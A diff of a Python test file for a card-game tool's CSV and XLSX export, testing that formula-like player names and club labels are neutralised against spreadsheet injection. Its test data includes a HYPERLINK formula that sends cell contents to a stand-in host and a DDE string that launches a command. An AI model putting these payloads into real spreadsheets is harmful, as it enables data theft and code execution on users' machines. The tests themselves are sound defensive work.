@@ -147,10 +147,12 @@ def test_the_row_column_and_cell_limits_hold_for_csv_and_xlsx(tmp_path: Path,
     assert result.exit_code == 1 and "a sheet may have at most 100" in result.output
 
 
+@pytest.mark.parametrize("sheet", ["examples/sheet-template.csv", "tests/golden/sheets/tuesday.csv"])
 @pytest.mark.parametrize("delimiter", [";", "\t"])
-def test_a_semicolon_or_tab_separated_csv_reads_as_the_comma_one(tmp_path: Path,
+def test_a_semicolon_or_tab_separated_csv_reads_as_the_comma_one(tmp_path: Path, sheet: str,
                                                                  delimiter: str) -> None:
-    rows = list(csv.reader(io.StringIO(TEMPLATE)))
+    """Either sheet's columns, a column per side or per player."""
+    rows = list(csv.reader(io.StringIO((ROOT / sheet).read_text(encoding="utf-8"))))
     rows[1][1] = "Elks Lodge 325, Ann Arbor"  # a comma inside a cell of a ;-separated file
     out = io.StringIO()
     csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
@@ -181,31 +183,12 @@ def _record(names: list[str]) -> dict[str, Any]:
                        "result": {"maker": "E", "trump": "H", "tricks": 3}}]}
 
 
-def test_formula_cells_are_neutralised_in_the_csv_export(tmp_path: Path) -> None:
-    (tmp_path / "r.json").write_text(json.dumps(_record(HOSTILE[:4])))
-    out = CliRunner().invoke(main, ["export", str(tmp_path / "r.json"), "--to", "csv"])
-    row = next(csv.DictReader(io.StringIO(out.stdout)))
-    assert [row[c] for c in ("north", "east", "south", "west")] == ["'" + n for n in HOSTILE[:4]]
-    assert row["club"] == "'" + HOSTILE[0]
-    assert row["tricks"] == "3"
-
-
-def test_the_xlsx_export_writes_names_as_text_never_formulas(tmp_path: Path) -> None:
-    (tmp_path / "r.json").write_text(json.dumps(_record(HOSTILE[:4])))
-    out = CliRunner().invoke(main, ["export", str(tmp_path / "r.json"), "--to", "xlsx"])
-    sheet = openpyxl.load_workbook(io.BytesIO(out.stdout_bytes)).worksheets[0]
-    header = [c.value for c in sheet[1]]
-    cells = {h: c for h, c in zip(header, sheet[2])}
-    for column, name in zip(("north", "east", "south", "west"), HOSTILE[:4]):
-        assert cells[column].data_type == "s" and cells[column].value == name
-    with zipfile.ZipFile(io.BytesIO(out.stdout_bytes)) as book:
-        assert "<f>" not in book.read(SHEET_PART).decode()
-
-
-# Tables of n (the per-player layout, interop/sheets/players.py): the same rule for every
-# player_i cell and the sitting's labels. The expected cells are written out by hand from
-# OWASP's rule: a ' in front of a cell that begins, after any apostrophes, with = + - @.
-TABLES_OF_N = [
+# At every table the same rule for every player's cell (north .. west, or player_i) and the
+# sitting's labels. The expected cells are written out by hand from OWASP's rule: a ' in front of
+# a cell that begins, after any apostrophes, with = + - @.
+TABLES = [
+    (None, HOSTILE[:4],   # four-handed: _record's
+     ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+1", "'-2+3", "'@SUM(1)"]),
     ("cutthroat-game.json", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "'=x"],
      ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+1", "''=x"]),
     ("five-handed-game.json", ["-2+3", "@SUM(1)", "''+y", "'t Hooft", "=1+2"],
@@ -214,38 +197,44 @@ TABLES_OF_N = [
 CLUB = "=cmd|' /C calc'!A0"
 
 
-def _table_of_n(tmp_path: Path, example: str, names: list[str]) -> Path:
-    data = json.loads((ROOT / "examples" / example).read_text(encoding="utf-8"))
-    data["players"] = {str(i): {"name": n} for i, n in enumerate(names)}
+def _sitting(tmp_path: Path, example: str | None, names: list[str]) -> tuple[Path, list[str]]:
+    """A record of ``names`` (four-handed: _record's; else the example's) and the hostile club,
+    written to a file; and the sheet's columns of its players."""
+    if example is None:
+        data, columns = _record(names), ["north", "east", "south", "west"]
+    else:
+        data = json.loads((ROOT / "examples" / example).read_text(encoding="utf-8"))
+        data["players"] = {str(i): {"name": n} for i, n in enumerate(names)}
+        columns = [f"player_{i}" for i in range(len(names))]
     data["event"]["club"] = CLUB
-    path = tmp_path / example
+    path = tmp_path / (example or "four.json")
     path.write_text(json.dumps(data), encoding="utf-8")
-    return path
+    return path, columns
 
 
-@pytest.mark.parametrize("example, names, written", TABLES_OF_N)
-def test_formula_names_at_tables_of_n_are_neutralised_in_the_csv_export(
-        tmp_path: Path, example: str, names: list[str], written: list[str]) -> None:
-    out = CliRunner().invoke(main, ["export", str(_table_of_n(tmp_path, example, names)),
-                                    "--to", "csv"])
+@pytest.mark.parametrize("example, names, written", TABLES)
+def test_formula_names_are_neutralised_in_the_csv_export(
+        tmp_path: Path, example: str | None, names: list[str], written: list[str]) -> None:
+    path, columns = _sitting(tmp_path, example, names)
+    out = CliRunner().invoke(main, ["export", str(path), "--to", "csv"])
     assert out.exit_code == 0, out.output
     row = next(csv.DictReader(io.StringIO(out.stdout)))
-    assert row["seats"] == str(len(names))
-    assert [row[f"player_{i}"] for i in range(len(names))] == written
+    assert row.get("seats", "4") == str(len(names))   # four-handed sheets have no seats column
+    assert [row[c] for c in columns] == written
     assert row["club"] == "'" + CLUB
     assert not re.search(r'(^|,)"?[=+@-]', out.stdout, re.M)   # no bare formula cell anywhere
 
 
-@pytest.mark.parametrize("example, names, written", TABLES_OF_N)
-def test_the_xlsx_export_at_tables_of_n_writes_names_as_text(
-        tmp_path: Path, example: str, names: list[str], written: list[str]) -> None:
-    out = CliRunner().invoke(main, ["export", str(_table_of_n(tmp_path, example, names)),
-                                    "--to", "xlsx"])
+@pytest.mark.parametrize("example, names, written", TABLES)
+def test_the_xlsx_export_writes_names_as_text_never_formulas(
+        tmp_path: Path, example: str | None, names: list[str], written: list[str]) -> None:
+    path, columns = _sitting(tmp_path, example, names)
+    out = CliRunner().invoke(main, ["export", str(path), "--to", "xlsx"])
     assert out.exit_code == 0, out.output
     sheet = openpyxl.load_workbook(io.BytesIO(out.stdout_bytes)).worksheets[0]
     cells = {h.value: c for h, c in zip(sheet[1], sheet[2])}
-    for i, name in enumerate(names):
-        assert cells[f"player_{i}"].data_type == "s" and cells[f"player_{i}"].value == name
+    for column, name in zip(columns, names):
+        assert cells[column].data_type == "s" and cells[column].value == name
     assert cells["club"].value == CLUB
     with zipfile.ZipFile(io.BytesIO(out.stdout_bytes)) as book:
         assert "<f>" not in book.read(SHEET_PART).decode()
